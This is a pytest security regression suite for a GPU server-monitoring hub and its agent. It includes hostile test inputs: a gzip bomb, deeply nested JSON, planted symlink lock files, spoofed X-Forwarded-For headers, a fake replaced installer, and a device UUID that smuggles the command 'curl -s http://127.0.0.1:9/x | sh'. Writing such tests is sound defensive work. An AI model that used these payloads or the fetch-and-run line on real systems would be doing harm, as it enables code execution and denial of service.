"""Security review 227e0d8, round 3 (part b): N4, N7, N8, N10, N11, N12 and I-1 … I-9.

Each test is named after the finding it proves and goes through the real code path: the real
agent process against a hostile hub on loopback, the real hub over loopback HTTP, the real CLI
in a subprocess, real files.
"""

import json
import os
import signal
import subprocess
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import FAKE_NVSMI, ROOT

# -- N4: the agent against a hostile hub ------------------------------------------------------

BOMB_INFLATED = 256 << 20  # what the gzip answer inflates to; the old agent held all of it


def _gzip_bomb(size):
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"\0" * (1 << 20)
    return b"".join([comp.compress(block) for _ in range(size >> 20)] + [comp.flush()])


class _HostileHub(BaseHTTPRequestHandler):
    """Answers the agent's POSTs in turn: a gzip bomb (201), a 64 MiB body (503), JSON nested
    200,000 deep (400), then a normal 201."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        server = self.server
        with server.lock:
            n = server.count
            server.count += 1
        try:
            if n % 4 == 0:
                self._answer(201, server.bomb, [("Content-Encoding", "gzip")])
            elif n % 4 == 1:
                self.send_response(503)
                self.send_header("Content-Length", str(64 << 20))
                self.end_headers()
                for _ in range(64):
                    self.wfile.write(b"x" * (1 << 20))
            elif n % 4 == 2:
                self._answer(400, b"[" * 200000 + b"]" * 200000)
            else:
                self._answer(201, b'{"ok": true}')
        except (BrokenPipeError, ConnectionResetError):
            pass  # the agent stopped reading: what it should do

    def _answer(self, status, body, headers=()):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def hostile_hub():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileHub)
    server.daemon_threads = True
    server.lock, server.count = threading.Lock(), 0
    server.bomb = _gzip_bomb(BOMB_INFLATED)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def _vm_hwm_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    raise AssertionError("no VmHWM")


def _agent_config(tmp_path, url, interval=1):
    config = tmp_path / "agent.yaml"
    config.write_text("\n".join([
        f"server_url: {url}", "token: t0ken-for-the-hostile-hub", f"interval: {interval}",
        f"nvidia_smi: {FAKE_NVSMI}", f"spool_dir: {tmp_path / 'spool'}", "retry_base_s: 0.3", "retry_max_s: 1",
    ]) + "\n")
    return config


def test_N4_agent_reads_hostile_hub_answers_within_bounds_and_keeps_running(hostile_hub, tmp_path):
    url = f"http://127.0.0.1:{hostile_hub.server_port}"
    hostile_hub.count = 0
    log = open(tmp_path / "agent.log", "wb")
    proc = subprocess.Popen([sys.executable, os.path.join(ROOT, "agent.py"), "-c", str(_agent_config(tmp_path, url)),
                             "-v"], stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.time() + 60
        while hostile_hub.count < 6 and proc.poll() is None and time.time() < deadline:
            time.sleep(0.2)
        time.sleep(0.5)  # the answer to the last request is read
        text = (tmp_path / "agent.log").read_text(errors="replace")
        assert proc.poll() is None, f"the agent exited on a hostile answer:\n{text[-3000:]}"
        assert hostile_hub.count >= 6, text[-3000:]  # bomb, big body, deep JSON, normal, bomb again…
        hwm = _vm_hwm_kib(proc.pid)
        # The agent alone is ~40 MiB; the old one held the 256 MiB inflated bomb (and copies of it).
        assert hwm < 128 * 1024, f"agent peak RSS {hwm} KiB"
        assert "RecursionError" not in text and "Traceback" not in text, text[-3000:]
    finally:
        proc.send_signal(signal.SIGTERM)
        rc = proc.wait(timeout=20)
    assert rc == 0


@pytest.mark.parametrize("turn", [0, 2])
def test_N4_agent_once_exits_cleanly_on_a_hostile_answer(hostile_hub, tmp_path, turn):
    """``--once``: the bomb answer with 201 is a stored report (0), the deep JSON with 400 a
    rejected one (1, said in one line) — never a traceback."""
    url = f"http://127.0.0.1:{hostile_hub.server_port}"
    hostile_hub.count = turn
    proc = subprocess.run([sys.executable, os.path.join(ROOT, "agent.py"), "-c", str(_agent_config(tmp_path, url)),
                           "--once"], capture_output=True, text=True, timeout=60)
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    if turn == 0:
        assert proc.returncode == 0 and "stored report" in proc.stdout, (proc.stdout, proc.stderr)
    else:
        assert proc.returncode == 1 and "hub rejected report" in proc.stderr, proc.stderr


# -- N11, N12: the CLI ------------------------------------------------------------------------

def _cli(hub_config, *args, umask=None):
    old = os.umask(umask) if umask is not None else None
    try:
        return subprocess.run([sys.executable, "-m", "server_monitor", *args, "-c", hub_config.path],
                              cwd=ROOT, capture_output=True, text=True, timeout=60)
    finally:
        if old is not None:
            os.umask(old)


def test_N11_sessions_revoke_matches_the_name_without_case_and_fails_when_nothing_ended(hub_process, hub_config):
    from datasette_auth_passwords.utils import hash_password
    from http_client import Browserless

    from server_monitor.auth.accounts import Accounts

    Accounts(hub_config.auth_db_path).create_user("viewer2", hash_password("correct horse battery"), "viewer")
    base = hub_process.base_url
    one, two = Browserless(base), Browserless(base)
    assert one.login("viewer2", "correct horse battery").status == 302
    assert two.login("VIEWER2", "correct horse battery").status == 302  # login ignores case too
    assert one.request("GET", "/api/servers").status == 200

    revoked = _cli(hub_config, "sessions", "revoke", "VIEWER2")
    assert revoked.returncode == 0 and revoked.stdout.strip() == "ended 2 sessions of viewer2", revoked
    for client in (one, two):
        assert client.request("GET", "/api/servers").status == 401
    again = _cli(hub_config, "sessions", "revoke", "Viewer2")
    assert again.returncode == 1 and "viewer2 has no live session" in again.stderr
    unknown = _cli(hub_config, "sessions", "revoke", "viewer3")
    assert unknown.returncode == 1 and "no user 'viewer3'" in unknown.stderr


def test_N12_backup_files_are_private_from_their_first_byte(hub_config, tmp_path):
    """The copies are created 0600 (the old code made them 0644 under umask 022 and chmodded
    after the copy: another user who opened one meanwhile kept reading it) and the destination
    directory 0700. A monitor.db of a few 4 KiB-page backup steps keeps the copy open long enough
    (0.25 s between steps) for a poller to see every mode the file ever had."""
    import sqlite3

    from server_monitor.storage import schema
    from server_monitor.auth.accounts import Accounts

    schema.migrate(hub_config.db_path)
    Accounts(hub_config.auth_db_path).connection()
    conn = sqlite3.connect(hub_config.db_path)
    conn.execute("CREATE TABLE padding (b BLOB)")
    conn.executemany("INSERT INTO padding VALUES (randomblob(1000000))", [()] * 40)
    conn.commit()
    conn.close()
    dest = tmp_path / "bk" / "nested"
    seen, stop = {}, threading.Event()

    def poll():
        while not stop.is_set():
            for d in (dest.parent, dest):
                if d.exists():
                    seen.setdefault(str(d), d.stat().st_mode & 0o777)
            if dest.exists():
                for f in os.listdir(dest):
                    try:
                        seen.setdefault(f, os.stat(dest / f).st_mode & 0o777)
                    except FileNotFoundError:
                        pass

    poller = threading.Thread(target=poll, daemon=True)
    poller.start()
    try:
        done = _cli(hub_config, "backup", str(dest), umask=0o022)
    finally:
        stop.set()
        poller.join()
    assert done.returncode == 0, done.stderr
    copies = sorted(os.path.basename(line) for line in done.stdout.split())
    assert [c.split("-")[0] for c in copies] == ["auth", "monitor"]
    assert {name: seen.get(name) for name in copies} == {name: 0o600 for name in copies}, seen
    assert all(mode == 0o600 for name, mode in seen.items() if not name.startswith("/")), seen
    assert seen[str(dest)] == 0o700 and seen[str(dest.parent)] == 0o700, seen
    again = _cli(hub_config, "backup", str(dest), umask=0o022)  # same second: never overwrites
    assert again.returncode in (0, 1) and "Traceback" not in again.stderr


# -- N8: lock files and the shelf in a data directory others can write to ----------------------

def _serve(hub_config, timeout=30):
    from conftest import free_port

    return subprocess.run([sys.executable, "-m", "server_monitor", "serve", "-c", hub_config.path,
                           "--port", str(free_port())], cwd=ROOT, capture_output=True, text=True, timeout=timeout)


@pytest.mark.parametrize("plant", ["symlink-data-lock", "fifo-write-lock", "foreign-jobs-lock",
                                   "symlink-analyst-slot", "symlink-shelf"])
def test_N8_planted_lock_files_stop_the_hub_with_one_line(hub_config, tmp_path, plant):
    """The old hub followed a planted ``monitor.db.lock`` link (truncating its target, here a
    file standing for a root-owned one) and used a planted lock file others could hold."""
    db = hub_config.db_path
    victim = tmp_path / "important.txt"
    victim.write_text("precious\n")
    if plant == "symlink-data-lock":
        path = db + ".lock"
        os.symlink(victim, path)
    elif plant == "fifo-write-lock":
        path = db + ".write.lock"
        os.mkfifo(path, 0o666)
    elif plant == "foreign-jobs-lock":
        if os.geteuid() != 0:
            pytest.skip("needs root to plant a file owned by another user")
        path = db + ".jobs.lock"
        open(path, "w").close()
        os.chown(path, 65534, 65534)
    elif plant == "symlink-analyst-slot":
        path = db + ".analyst.0.lock"
        os.symlink(victim, path)
    else:
        path = db + ".fleet"
        os.symlink(tmp_path, path)
    done = _serve(hub_config)
    assert done.returncode != 0, (done.stdout, done.stderr[-2000:])
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith(f"Error: {path}: ") and "refusing to use it" in last, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    assert victim.read_text() == "precious\n"


def test_N8_lock_files_of_a_normal_start_are_private_regular_files(hub_process, hub_config):
    """The checks refuse nothing on a normal start: every lock file is a 0600 file of ours."""
    import stat

    db = hub_config.db_path
    for path in (db + ".lock", db + ".write.lock", db + ".jobs.lock", db + ".analyst.0.lock"):
        st = os.lstat(path)
        assert stat.S_ISREG(st.st_mode) and st.st_uid == os.geteuid() and st.st_mode & 0o777 == 0o600, path


# -- N10, I-1, I-3, I-6: logins and registration on the real hub ------------------------------

def _hub(hub_config, tmp_path, **values):
    """The real hub with dotted config ``values``; returns (process, base URL)."""
    from conftest import free_port
    from test_agent_process import start_hub
    from test_security_followups import _set_config

    _set_config(hub_config, **values)
    port = free_port()
    return start_hub(hub_config, port, tmp_path), f"http://127.0.0.1:{port}"


def _stop_hub(proc):
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(timeout=15)


def _weak_user(hub_config, name, password, role="viewer"):
    from datasette_auth_passwords.utils import hash_password

    from server_monitor.auth.accounts import Accounts

    Accounts(hub_config.auth_db_path).create_user(name, hash_password(password, iterations=1000), role)


def test_N10_right_passwords_are_budgeted_and_sessions_per_user_capped(hub_config, tmp_path):
    """Defaults: 20 right passwords a minute per user, 20 live sessions per user. The old hub
    took every right password (75 sessions in 25 s) and slowed everyone's logins."""
    from http_client import Browserless

    from server_monitor.auth.accounts import Accounts

    proc, base = _hub(hub_config, tmp_path)
    try:
        _weak_user(hub_config, "vera", "correct horse battery")
        _weak_user(hub_config, "walt", "battery staple horse")
        accounts = Accounts(hub_config.auth_db_path)
        older = [accounts.create_session("vera", "user", 12) for _ in range(3)]  # from yesterday's logins
        accounts.connection().execute("UPDATE sessions SET created_at = created_at - 86400")
        clients = [Browserless(base) for _ in range(21)]
        statuses = [c.login("vera", "correct horse battery").status for c in clients]
        assert statuses == [302] * 20 + [429], statuses
        refused = Browserless(base).login("vera", "correct horse battery")
        assert refused.status == 429 and "Too many logins for this account or address" in refused.data.decode()
        # 20 live sessions at most: the three older ones were ended, the 20 new ones work.
        assert all(accounts.session(sid) is None for sid in older)
        assert [c.request("GET", "/api/servers").status for c in clients[:20]] == [200] * 20
        assert len([s for s in accounts.live_sessions() if s["username"] == "vera"]) == 20
        # Someone else, from the same address, at once.
        started = time.monotonic()
        assert Browserless(base).login("walt", "battery staple horse").status == 302
        assert time.monotonic() - started < 5
    finally:
        _stop_hub(proc)


def _post_form(client, path, fields, headers=None, token_path=None):
    import re

    page = client.request("GET", token_path or path)
    token = re.search(r'name="csrftoken" value="([^"]+)"', page.data.decode())
    fields = dict(fields, csrftoken=token.group(1) if token else "")
    return client.request("POST", path, fields=fields, headers=headers or {}, encode_multipart=False)


def test_I1_a_valid_invite_registers_after_others_bogus_posts_from_the_same_address(hub_config, tmp_path):
    import re

    from http_client import Browserless

    from server_monitor.auth.accounts import Accounts

    proc, base = _hub(hub_config, tmp_path)
    try:
        _, code = Accounts(hub_config.auth_db_path).create_invite("viewer", 24)
        bogus = []
        for i in range(12):
            client = Browserless(base)
            bogus.append(_post_form(client, f"/register?code=bogus{i}", {
                "code": f"bogus{i}", "username": f"u{i}", "password": "x" * 12, "password2": "x" * 12},
                token_path="/login").status)
        assert bogus[-1] == 429, bogus  # bogus posts are still limited per address
        good = Browserless(base)
        answer = _post_form(good, f"/register?code={code}", {
            "code": code, "username": "newbie", "password": "a fine long pass", "password2": "a fine long pass"})
        assert answer.status == 302, re.findall(r"error[^<]*<[^>]*>[^<]*", answer.data.decode())
        assert good.request("GET", "/api/servers").status == 200
    finally:
        _stop_hub(proc)


def test_I3_the_username_repeated_is_not_a_password(hub_config, tmp_path):
    import re

    from http_client import Browserless

    proc, base = _hub(hub_config, tmp_path)
    try:
        _weak_user(hub_config, "admin2", "correct horse battery", role="admin")
        client = Browserless(base)
        assert client.login("admin2", "correct horse battery").status == 302
        page = client.request("GET", "/account").data.decode()
        token = re.search(r'name="csrftoken" value="([^"]+)"', page).group(1)
        fields = {"csrftoken": token, "password": "correct horse battery",
                  "new_password": "admin2admin2", "new_password2": "admin2admin2"}
        answer = client.request("POST", "/account", fields=fields, encode_multipart=False)
        assert answer.status == 200 and "close to) the username" in answer.data.decode(), answer.data.decode()[-1500:]
        assert client.request("GET", "/api/servers").status == 200  # still logged in, password unchanged
    finally:
        _stop_hub(proc)


def test_I6_the_proxy_header_is_believed_only_from_trusted_proxies(hub_config, tmp_path):
    """With ``trusted_proxy_header`` set, a client that reaches the hub directly (not from
    ``auth.trusted_proxies``) rotated X-Forwarded-For and got a fresh address budget each time."""
    from http_client import Browserless

    from server_monitor.auth.accounts import Accounts

    import urllib3

    proc, base = _hub(hub_config, tmp_path, **{"auth.trusted_proxy_header": "x-forwarded-for"})
    try:
        statuses = []
        for i in range(6):
            client = Browserless(base)  # from 127.0.0.3: not a trusted proxy (default 127.0.0.1, ::1)
            client.http = urllib3.PoolManager(retries=False, source_address=("127.0.0.3", 0))
            statuses.append(_post_form(client, "/login", {"username": f"user{i}", "password": "wrong"},
                                       headers={"X-Forwarded-For": f"10.19.0.{i}"}).status)
        assert statuses == [401] * 5 + [429], statuses
    finally:
        _stop_hub(proc)
    # From a trusted proxy (127.0.0.1, in the default list) the header's rightmost address counts.
    proc, base = _hub(hub_config, tmp_path)
    try:
        client = Browserless(base)
        assert _post_form(client, "/login", {"username": hub_config.get("auth.username"),
                                             "password": hub_config.password},
                          headers={"X-Forwarded-For": "6.6.6.6, 10.0.0.9"}).status == 302
        rows = Accounts(hub_config.auth_db_path).connection().execute("SELECT client FROM sessions").fetchall()
        assert [r[0] for r in rows] == ["10.0.0.9"]
    finally:
        _stop_hub(proc)


# -- N7: the /free copy recipe ----------------------------------------------------------------

@pytest.mark.browser
def test_N7_free_page_copies_only_device_lists_and_the_script_recipe_is_private(page, hub_process, hub_config,
                                                                               tmp_path):
    """(a) An agent's MIG "uuid" with a newline and a command reached the clipboard; now only a
    value of the device grammar gets a Copy button. (b) The cookie recipe, run as written under
    umask 022, wrote a 0644 cookies.txt and put the password on curl's command line; since
    newcomer finding 9 the page teaches an API token instead, and its recipe must keep the token
    off every command line too (read without echo, the header on curl's standard input)."""
    import shutil

    from browser import login, push
    from test_browser_pages import new_api_token
    from playwright.sync_api import expect
    from reports import mig_report

    hostile = "MIG-4f1c2a9e-7b1d-5e3a-9c2b-1a2b3c4d5e6f\ncurl -s http://127.0.0.1:9/x | sh\n"
    good = "MIG-0b6d3c2a-1f2e-5d4c-8b7a-6e5f4d3c2b1a"
    report = mig_report("mig-node", busy_instances=())
    report["mig_devices"][0]["uuid"] = hostile
    report["mig_devices"][1]["uuid"] = good
    push(hub_process, hub_config, report)
    login(page, hub_process.base_url, hub_config.get("auth.username"), hub_config.password)
    token = new_api_token(page, hub_process.base_url)
    page.goto(hub_process.base_url + "/free")
    rows = page.locator("#free-table tbody tr")
    expect(rows.first).to_contain_text("mig-node")
    texts = [rows.nth(i).inner_text() for i in range(rows.count())]
    bad_row = rows.nth(next(i for i, t in enumerate(texts) if "4f1c2a9e" in t))
    good_row = rows.nth(next(i for i, t in enumerate(texts) if good in t))
    assert bad_row.locator("button.copy").count() == 0
    expect(bad_row).to_contain_text("not offered for copying")
    assert good_row.locator("button.copy").count() == 1
    assert page.console_errors == []

    if not shutil.which("curl"):
        pytest.skip("curl is not installed")
    # Every curl the recipe runs goes through a wrapper that records its command line.
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "curl").write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> {tmp_path}/argv.log\nexec {shutil.which("curl")} "$@"\n')
    (bindir / "curl").chmod(0o755)
    script = page.inner_text("#token-howto") + "\n" + page.inner_text("#one-liner")
    old = os.umask(0o022)
    try:
        out = subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, timeout=60, text=True,
                             input=token + "\n", env=dict(os.environ, PATH=f"{bindir}:{os.environ['PATH']}"))
    finally:
        os.umask(old)
    argv = (tmp_path / "argv.log").read_text()
    assert argv.count("\n") == 1 and token not in argv and token[4:12] not in argv, argv
    assert not (tmp_path / "cookies.txt").exists()  # no session file any more
    assert f"mig-node CUDA_VISIBLE_DEVICES={good}" in out.stdout, (out.stdout, out.stderr)


# -- I-7: 500s on admin input -----------------------------------------------------------------

SLOW_SQL = "with recursive c(x) as (select 1 union all select x+1 from c) select count(*) from c"


@pytest.mark.parametrize("path", ["/monitor.csv", "/~6Donitor.csv"])
def test_I7_interrupted_csv_and_lone_surrogate_notes_are_4xx_not_500(hub_process, hub_config, path):
    import urllib.parse

    from http_client import Browserless

    admin = Browserless(hub_process.base_url)
    assert admin.login(hub_config.get("auth.username"), hub_config.password).status == 302
    for note in ("\ud800", "ab\u202egnp.exe", "nul\x00byte"):
        body = json.dumps({"note": note}).encode()  # ASCII escapes: "\ud800" stays a lone surrogate
        answer = admin.request("POST", "/api/alerts/1/ack", body=body, headers={"Content-Type": "application/json"})
        assert answer.status == 400 and "note" in json.loads(answer.data)["error"], (note, answer.data)
    answer = admin.request("GET", f"{path}?sql=" + urllib.parse.quote(SLOW_SQL), timeout=60)
    assert 400 <= answer.status < 500, (answer.status, answer.data[:300])


# -- I-2: identity text for a scoped viewer --------------------------------------------------

def test_I2_host_identity_problem_names_no_out_of_scope_server(hub_config, tmp_path):
    """A viewer whose scope is only the look-alike host saw "secret-h0st: the name looks like
    secret-host, the name of server #1" in /api/fleet and alerts_active."""
    from conftest import sample_report
    from http_client import Browserless
    from test_security_followups import _post, _wait_for

    from server_monitor.auth.accounts import Accounts

    proc, base = _hub(hub_config, tmp_path, **{"alerts.interval_s": 1})
    try:
        token = hub_config.get("agent.token")
        assert _post(base, token, sample_report("secret-host", gpus=1, processes=0, machine_id="m-aaaa")) == 201
        assert _post(base, token, sample_report("secret-h0st", gpus=1, processes=0, machine_id="m-bbbb")) == 201
        from datasette_auth_passwords.utils import hash_password

        Accounts(hub_config.auth_db_path).create_user("vlook", hash_password("correct horse battery", iterations=1000),
                                                      "viewer", servers=[2])
        vlook = Browserless(base)
        assert vlook.login("vlook", "correct horse battery").status == 302

        def problems():
            fleet = json.loads(vlook.request("GET", "/api/fleet?fresh=1").data)
            return [p["message"] for p in fleet["problems"] if p["rule"] == "host_identity"]

        seen = _wait_for(problems)
        assert seen == ["secret-h0st: the name looks like another server's name (accept it on /admin if expected)"]
        rows = json.loads(vlook.request("GET", "/monitor/alerts_active.json?_shape=array").data)
        texts = json.dumps(rows) + json.dumps(json.loads(vlook.request("GET", "/api/fleet?fresh=1").data))
        assert "secret-h0st" in texts and "secret-host" not in texts and "#1" not in texts
    finally:
        _stop_hub(proc)


# -- I-8, I-9: install and upgrade scripts ----------------------------------------------------

def test_I8_install_agent_pins_the_zipapp_checksum_over_plain_http(tmp_path):
    """A man-in-the-middle on plain http serves a replaced zipapp with a matching .sha256: the
    hub's checksum alone cannot catch it, the checksum pinned with --sha256 does."""
    import functools
    import hashlib
    from http.server import SimpleHTTPRequestHandler

    from conftest import TESTS

    served = tmp_path / "www" / "static" / "agent"
    served.mkdir(parents=True)
    evil = b"#!/bin/sh\necho owned\n"
    for arch in ("x86_64", "aarch64"):
        (served / f"server-monitor-agent-{arch}.pyz").write_bytes(evil)
        (served / f"server-monitor-agent-{arch}.pyz.sha256").write_text(
            f"{hashlib.sha256(evil).hexdigest()}  server-monitor-agent-{arch}.pyz\n")
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(tmp_path / "www"))
    handler.log_message = lambda *a: None
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "token").write_text("t0ken-for-the-test\n")
    env = dict(os.environ, PATH=os.path.join(TESTS, "fakebin") + os.pathsep + os.environ["PATH"],
               FAKE_SYSTEMCTL_LOG=str(root / "calls.log"))
    genuine = hashlib.sha256(b"the release's own zipapp").hexdigest()
    try:
        args = ["bash", os.path.join(ROOT, "scripts", "install_agent.sh"), "--url", f"http://127.0.0.1:{server.server_port}",
                "--token-file", str(tmp_path / "token"), "--root", str(root)]
        pinned = subprocess.run(args + ["--sha256", genuine], env=env, capture_output=True, text=True, timeout=60,
                                stdin=subprocess.DEVNULL)
        assert pinned.returncode != 0 and f"does not match --sha256 {genuine}; not installed" in pinned.stderr, pinned
        assert not (root / "opt/server-monitor-agent/server-monitor-agent.pyz").exists()
        unpinned = subprocess.run(args + ["--dry-run"], env=env, capture_output=True, text=True, timeout=60,
                                  stdin=subprocess.DEVNULL)
        assert unpinned.returncode == 0 and "warning: plain http and no --sha256" in unpinned.stderr, unpinned
    finally:
        server.shutdown()
        server.server_close()


def test_I9_upgrade_rollback_restores_databases_without_following_planted_links(tmp_path):
    """upgrade.sh's rollback (restore_databases, run as root) copied the backup onto the
    database path and chowned it, both through a link the service user could plant there."""
    import getpass
    import stat

    release = tmp_path / "release"
    (release / ".venv" / "bin").mkdir(parents=True)
    (release / ".venv" / "bin" / "python").write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
    (release / ".venv" / "bin" / "python").chmod(0o755)
    data = tmp_path / "data"
    data.mkdir()
    config = tmp_path / "config.yaml"
    config.write_text(f"server:\n  secret_key: {'s' * 32}\nauth:\n  password: pw-for-the-test\n"
                      f"agent:\n  token: {'t' * 32}\ndata:\n  path: {data}/monitor.db\n  auth_path: {data}/auth.db\n")
    backup = tmp_path / "backup"
    backup.mkdir()
    (backup / "monitor-20261207T000000Z.db").write_bytes(b"monitor backup")
    (backup / "auth-20261207T000000Z.db").write_bytes(b"auth backup")
    victim = tmp_path / "victim.txt"
    victim.write_text("root's file\n")
    os.symlink(victim, data / "monitor.db")  # planted by the service user
    user = getpass.getuser()
    script = (f'set -euo pipefail; DRY_RUN=0; SERVER_USER={user}; say() {{ echo "$*" >&2; }}; run() {{ "$@"; }}\n'
              + subprocess.run(["sed", "-n", "/^restore_databases()/,/^}/p", os.path.join(ROOT, "scripts", "upgrade.sh")],
                               capture_output=True, text=True, check=True).stdout
              + f'\nrestore_databases "{config}" "{backup}" "{release}"\n')
    done = subprocess.run(["bash", "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=60,
                          env=dict(os.environ, PYTHONPATH=ROOT))
    assert "restore_databases()" in script and done.returncode == 0, done.stderr
    assert victim.read_text() == "root's file\n"
    st = os.lstat(data / "monitor.db")
    assert stat.S_ISREG(st.st_mode) and (data / "monitor.db").read_bytes() == b"monitor backup"
    assert (data / "auth.db").read_bytes() == b"auth backup"
